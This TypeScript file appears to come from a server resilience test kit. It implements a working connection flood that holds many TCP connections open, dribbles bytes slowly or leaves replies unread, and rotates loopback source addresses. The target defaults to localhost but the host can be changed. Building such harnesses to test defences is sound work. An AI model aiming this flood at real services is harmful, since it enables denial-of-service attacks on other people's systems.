/** A program that attacks: it keeps as many connections open as it is told to, all with the same behaviour, and replaces those that are closed. */
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

import { firstWords } from './first-words.ts';
import type { Behaviour, FirstWords } from './first-words.ts';

/** Told as JSON in the first argument. */
export interface FloodOrder {
  readonly host?: string;
  readonly port: number;
  readonly behaviour: Behaviour;
  /** Connections that are open at a time, and new ones at most in a second. */
  readonly open: number;
  readonly perSecond: number;
  /** Whether all come from one address, or each from another. */
  readonly from: 'one address' | 'many addresses';
  /** What requests ask for. */
  readonly path?: string;
}

const STEP_MS = 10;
/** Connections that have ended, before the program says so. */
const MANY = 100;

const order = JSON.parse(process.argv[2] ?? '{}') as FloodOrder;
const words = firstWords(order.behaviour, order.path);
let open = 0;
let made = 0;
let ended = 0;

const began = performance.now();
for (let due = 0; ;) {
  due = Math.min(((performance.now() - began) / 1000) * order.perSecond, made + order.perSecond / 10);
  while (open < order.open && made < due) attack();
  if (made >= Math.min(order.open, order.perSecond)) console.log(`attacking; open ${open}, ended ${ended}`);
  if (ended >= MANY) console.log('many ended');
  await sleep(STEP_MS);
}

function attack(): void {
  open += 1;
  made += 1;
  const socket = connect({
    host: order.host ?? '127.0.0.1',
    port: order.port,
    localAddress: address(),
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    open -= 1;
    ended += 1;
  });
  socket.once('connect', () => say(socket, words));
}

function say(socket: Socket, { bytes, everyMs, piece = 1, unread, ends }: FirstWords): void {
  if (!unread) socket.resume();
  if (everyMs === undefined) {
    if (bytes.length > 0) socket.write(bytes);
    if (ends) socket.end();
    return;
  }
  let at = 0;
  const timer = setInterval(() => {
    if (socket.destroyed || at >= bytes.length) return clearInterval(timer);
    socket.write(bytes.subarray(at, (at += piece)));
  }, everyMs);
}

/** Of 127.0.0.0/8, but none that the kit gives to others. */
function address(): string {
  if (order.from === 'one address') return '127.0.0.66';
  const part = () => 1 + Math.floor(Math.random() * 250);
  return `127.${part()}.${part()}.${part()}`;
}
